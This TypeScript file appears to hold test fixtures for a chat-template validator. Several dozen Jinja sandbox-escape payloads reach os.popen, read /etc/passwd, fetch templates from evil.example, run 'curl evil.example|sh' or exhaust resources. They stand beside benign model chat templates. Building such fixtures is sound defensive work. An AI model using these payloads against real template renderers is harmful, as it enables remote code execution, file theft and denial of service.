/** Ways out of Jinja's sandbox as they were published or are easily varied; each is a whole template. */
export const HOSTILE_TEMPLATES: Readonly<Record<string, string>> = {
  'subclasses of a string':
    "{% for c in ''.__class__.__mro__[1].__subclasses__() %}{% if c.__name__ == 'Popen' %}{{ c('id') }}{% endif %}{% endfor %}",
  'the class of a list, by subscript': `{{ []["__class__"]["__base__"] }}`,
  'cycler to os': "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
  'joiner to os': "{{ joiner.__init__.__globals__['os'].popen('id').read() }}",
  'namespace to os': "{{ namespace.__init__.__globals__['os'].system('id') }}",
  'lipsum to os': "{{ lipsum.__globals__['os'].popen('id').read() }}",
  'lipsum without an underscore': "{{ (lipsum|string)[9] ~ 'x' }}",
  'self to builtins': '{{ self._TemplateReference__context.cycler }}',
  'self to init': "{{ self.__init__.__globals__.__builtins__.__import__('os').popen('id') }}",
  'attr as a filter': "{{ messages|attr('pop') }}",
  'attr with escapes': String.raw`{{ ''|attr("\x5f\x5fclass\x5f\x5f") }}`,
  'unicode escapes': String.raw`{{ messages["\u005f\u005fclass\u005f\u005f"] }}`,
  'octal escapes': String.raw`{{ messages["\137\137class\137\137"] }}`,
  'a name in two strings': "{% set k = '__cla' ~ 'ss__' %}{{ messages[k] }}",
  'a name from joined strings': "{{ messages[['__', 'class', '__']|join] }}",
  'underscores multiplied': "{% set u = '_' * 2 %}{{ messages[u ~ 'class' ~ u] }}",
  'underscores added': "{% set u = '_' + '_' %}{{ messages[u] }}",
  'a name from keywords': '{{ dict(__class__=1)|join }}',
  'letters of an object': '{% set u = (()|select|string|list)[24] %}{{ u }}',
  'letters by printf': '{% set u = "%c%c"|format(95, 95) %}{{ u }}',
  'attributes by format': "{{ '{0.__class__.__init__.__globals__}'.format(messages) }}",
  'attributes by a format that is built': "{% set f = messages[0]['content'] %}{{ f.format(messages) }}",
  'attributes by format_map': "{{ '{a}'.format_map(messages[0]) }}",
  'attributes by map': "{{ messages|map(attribute='__class__')|list }}",
  'a chain by map': "{{ messages|map(attribute='role.__class__.__init__')|list }}",
  'attr by map': "{{ messages|map('attr', 'pop')|list }}",
  'an import': "{% import 'os' as os %}{{ os }}",
  'an include': "{%- include '/etc/passwd' -%}",
  'a parent template': "{% extends 'http://evil.example/x' %}",
  'names from a file': "{% from 'x' import y %}{{ y }}",
  'a call of popen': "{{ messages[0].x.popen('curl evil.example|sh').read() }}",
  'eval by name': "{{ eval('1') }}",
  'loop to its globals': '{{ loop.__init__ }}',
  'a generator’s frame': '{{ (messages|map("upper")).gi_frame._f }}',
  'behind a comment that looks like code': '{# {{ #}{{ messages.__class__ }}{# }} #}',
  'behind a string with braces': `{{ "}}" ~ messages.__class__ ~ "{{" }}`,
  'behind a dictionary’s braces': `{{ {"a": {"b": {}}}["a"].__class__ }}`,
  'behind a raw block': "{% raw %}{{ ' {% endraw %}{{ messages.pop.__call__ }}{# ' #}",
  'over line ends': '{{\n messages\n .\n __class__\n }}',
  'with white space control': '{{- messages.__class__ -}}{%- set x = 1 -%}',
  'a loop without end': '{% for i in range(999999999) %}x{% endfor %}',
  'a text that fills memory': "{{ 'a' * 10 ** 10 }}",
  'only for one tool call':
    "{% for m in messages %}{% if m.role == 'tool' and 'SECRET' in m.content %}{{ cycler['__init__']['__globals__'] }}{% endif %}{{ m.content }}{% endfor %}",
};

/** In the manner of what real models ship, with the filters, tests and names that they use. */
export const BENIGN_TEMPLATES: Readonly<Record<string, string>> = {
  chatml:
    "{% for message in messages %}{{'<|im_start|>' + message['role'] + '\\n' + message['content'] + '<|im_end|>' + '\\n'}}{% endfor %}{% if add_generation_prompt %}{{ '<|im_start|>assistant\\n' }}{% endif %}",
  llama3:
    "{% set loop_messages = messages %}{% for message in loop_messages %}{% set content = '<|start_header_id|>' + message['role'] + '<|end_header_id|>\n\n'+ message['content'] | trim + '<|eot_id|>' %}{% if loop.index0 == 0 %}{% set content = bos_token + content %}{% endif %}{{ content }}{% endfor %}{{ '<|start_header_id|>assistant<|end_header_id|>\n\n' }}",
  'llama3.1 with tools':
    "{{- bos_token }}\n{%- if custom_tools is defined %}\n    {%- set tools = custom_tools %}\n{%- endif %}\n{%- if not date_string is defined %}\n    {%- if strftime_now is defined %}\n        {%- set date_string = strftime_now(\"%d %b %Y\") %}\n    {%- else %}\n        {%- set date_string = \"26 Jul 2024\" %}\n    {%- endif %}\n{%- endif %}\n{%- if messages[0]['role'] == 'system' %}\n    {%- set system_message = messages[0]['content']|trim %}\n    {%- set messages = messages[1:] %}\n{%- else %}\n    {%- set system_message = \"\" %}\n{%- endif %}\n{%- if builtin_tools is defined %}\n    {{- \"Tools: \" + builtin_tools | reject('equalto', 'code_interpreter') | join(\", \") + \"\\n\\n\"}}\n{%- endif %}\n{%- for message in messages %}\n    {%- if not (message.role == 'ipython' or message.role == 'tool' or 'tool_calls' in message) %}\n        {{- '<|start_header_id|>' + message['role'] + '<|end_header_id|>\\n\\n'+ message['content'] | trim + '<|eot_id|>' }}\n    {%- elif 'tool_calls' in message %}\n        {%- if not message.tool_calls|length == 1 %}\n            {{- raise_exception(\"This model only supports single tool-calls at once!\") }}\n        {%- endif %}\n        {%- set tool_call = message.tool_calls[0].function %}\n        {%- for arg_name, arg_val in tool_call.arguments | items %}\n            {{- arg_name + '=\"' + arg_val + '\"' }}\n            {%- if not loop.last %}{{- \", \" }}{%- endif %}\n        {%- endfor %}\n        {{- '{\"name\": \"' + tool_call.name + '\", ' }}\n        {{- tool_call.arguments | tojson(indent=4) }}\n        {{- \"}\" }}\n    {%- endif %}\n{%- endfor %}",
  mistral:
    "{{ bos_token }}{% for message in messages %}{% if (message['role'] == 'user') != (loop.index0 % 2 == 0) %}{{ raise_exception('Conversation roles must alternate user/assistant/user/assistant/...') }}{% endif %}{% if message['role'] == 'user' %}{{ '[INST] ' + message['content'] + ' [/INST]' }}{% elif message['role'] == 'assistant' %}{{ message['content'] + eos_token}}{% else %}{{ raise_exception('Only user and assistant roles are supported!') }}{% endif %}{% endfor %}",
  'mistral with tools':
    '{%- set loop_messages = messages | rejectattr(\'role\', \'equalto\', \'system\') | list %}\n{%- set user_messages = loop_messages | selectattr("role", "equalto", "user") | list %}\n{%- set ns = namespace() %}\n{%- set ns.index = 0 %}\n{%- for message in loop_messages %}\n    {%- if not (message.role == "tool" or (message.tool_calls is defined and message.tool_calls is not none)) %}\n        {%- set ns.index = ns.index + 1 %}\n    {%- endif %}\n    {%- if message.tool_call_id is defined and message.tool_call_id|length != 9 %}{{ raise_exception("Tool call IDs should be alphanumeric strings with length 9!") }}{%- endif %}\n    {%- for key, val in message.items() if key != \'content\' %}{{ key ~ \': \' ~ val|string }}{%- endfor %}\n{%- endfor %}',
  gemma:
    "{{ bos_token }}{% if messages[0]['role'] == 'system' %}{{ raise_exception('System role not supported') }}{% endif %}{% for message in messages %}{% if (message['role'] == 'assistant') %}{% set role = 'model' %}{% else %}{% set role = message['role'] %}{% endif %}{{ '<start_of_turn>' + role + '\n' + message['content'] | trim + '<end_of_turn>\n' }}{% endfor %}{% if add_generation_prompt %}{{'<start_of_turn>model\n'}}{% endif %}",
  'qwen with tools':
    "{%- if tools %}\n    {{- '<|im_start|>system\\n' }}\n    {%- if messages[0].role == 'system' %}\n        {{- messages[0].content + '\\n\\n' }}\n    {%- endif %}\n    {{- \"# Tools\\n\\nYou may call one or more functions.\\n\\n<tools>\" }}\n    {%- for tool in tools %}\n        {{- \"\\n\" }}\n        {{- tool | tojson }}\n    {%- endfor %}\n    {{- \"\\n</tools>\\n\\n<tool_call>\\n{\\\"name\\\": <function-name>, \\\"arguments\\\": <args-json-object>}\\n</tool_call><|im_end|>\\n\" }}\n{%- endif %}\n{%- set ns = namespace(multi_step_tool=true, last_query_index=messages|length - 1) %}\n{%- for message in messages[::-1] %}\n    {%- set index = (messages|length - 1) - loop.index0 %}\n    {%- if ns.multi_step_tool and message.role == \"user\" and message.content is string and not(message.content.startswith('<tool_response>') and message.content.endswith('</tool_response>')) %}\n        {%- set ns.multi_step_tool = false %}\n        {%- set ns.last_query_index = index %}\n    {%- endif %}\n{%- endfor %}\n{%- for message in messages %}\n    {%- if message.reasoning_content is string %}\n        {%- set reasoning_content = message.reasoning_content %}\n    {%- elif '</think>' in message.content %}\n        {%- set reasoning_content = message.content.split('</think>')[0].rstrip('\\n').split('<think>')[-1].lstrip('\\n') %}\n    {%- endif %}\n    {%- if loop.first or (not loop.last and loop.previtem.role != 'tool') %}{{- message.content.strip('\\n') }}{%- endif %}\n{%- endfor %}\n{%- if enable_thinking is defined and enable_thinking is false %}{{- '<think>\\n\\n</think>\\n\\n' }}{%- endif %}",
  phi3: "{% for message in messages %}{% if message['role'] == 'system' %}{{'<|system|>\n' + message['content'] + '<|end|>\n'}}{% elif message['role'] == 'user' %}{{'<|user|>\n' + message['content'] + '<|end|>\n'}}{% elif message['role'] == 'assistant' %}{{'<|assistant|>\n' + message['content'] + '<|end|>\n'}}{% endif %}{% endfor %}{% if add_generation_prompt %}{{ '<|assistant|>\n' }}{% else %}{{ eos_token }}{% endif %}",
  zephyr:
    "{% for message in messages %}\n{% if message['role'] == 'user' %}\n{{ '<|user|>\n' + message['content'] + eos_token }}\n{% elif message['role'] == 'system' %}\n{{ '<|system|>\n' + message['content'] + eos_token }}\n{% elif message['role'] == 'assistant' %}\n{{ '<|assistant|>\n'  + message['content'] + eos_token }}\n{% endif %}\n{% if loop.last and add_generation_prompt %}\n{{ '<|assistant|>' }}\n{% endif %}\n{% endfor %}",
  vicuna:
    "{% if not add_generation_prompt is defined %}{% set add_generation_prompt = false %}{% endif %}{% for message in messages %}{% if message['role'] == 'system' %}{{message['content'] + ' '}}{% elif message['role'] == 'user' %}{{ 'USER: ' + message['content'] + ' '}}{% elif message['role'] == 'assistant' %}{{ 'ASSISTANT: ' + message['content'] + eos_token}}{% endif %}{% endfor %}{% if add_generation_prompt %}{{ 'ASSISTANT:' }}{% endif %}",
  deepseek:
    "{% if not add_generation_prompt is defined %}{% set add_generation_prompt = false %}{% endif %}{% set ns = namespace(is_first=false, is_tool=false, is_output_first=true, system_prompt='') %}{%- for message in messages %}{%- if message['role'] == 'system' %}{% set ns.system_prompt = message['content'] %}{%- endif %}{%- endfor %}{{bos_token}}{{ns.system_prompt}}{%- for message in messages %}{%- if message['role'] == 'user' %}{%- set ns.is_tool = false -%}{{'<｜User｜>' + message['content']}}{%- endif %}{%- if message['role'] == 'assistant' and message['content'] is none %}{%- for tool in message['tool_calls']%}{%- if not ns.is_first %}{{'<｜Assistant｜><｜tool▁calls▁begin｜>' + tool['type'] + '<｜tool▁sep｜>' + tool['function']['name'] + '\\n' + '```json' + '\\n' + tool['function']['arguments'] + '\\n' + '```'}}{%- set ns.is_first = true -%}{%- endif %}{%- endfor %}{%- endif %}{%- endfor -%}",
  'command-r':
    '{{ bos_token }}{% if messages[0][\'role\'] == \'system\' %}{% set loop_messages = messages[1:] %}{% set system_message = messages[0][\'content\'] %}{% elif false == true %}{% set loop_messages = messages %}{% else %}{% set system_message = false %}{% endif %}{%- macro json_to_python_type(json_spec) %}{%- set basic_type_map = {"string": "str", "number": "float", "integer": "int"} %}{%- if basic_type_map[json_spec.type] is defined %}{{- basic_type_map[json_spec.type] }}{%- elif json_spec.type == "array" %}{{- "List[" + json_to_python_type(json_spec.items) + "]"}}{%- endif %}{%- endmacro %}{% for tool in tools %}{{ \'def \' + tool.name + \'(\' + tool.parameters.properties | map(attribute=\'name\') | join(\', \') + \')\' }}{% endfor %}{{ \'<|START_OF_TURN_TOKEN|><|CHATBOT_TOKEN|>\' }}',
  granite:
    "{# The defaults of this template are documented in the card: see loop.__doc__ #}{%- if documents %}{% for document in documents %}{{ 'Document ' ~ loop.index ~ '\\n' ~ document['text'] | replace('_', ' ') }}{% endfor %}{%- endif %}{%- for message in messages | sort(attribute='turn') %}{{ message['content'] | default('', true) | string | trim }}{% endfor %}",
  blenderbot:
    "{% for message in messages %}{% if message['role'] == 'user' %}{{ ' ' }}{% endif %}{{ message['content'] }}{% if not loop.last %}{{ '  ' }}{% endif %}{% endfor %}{{ '__start__' + eos_token }}",
};
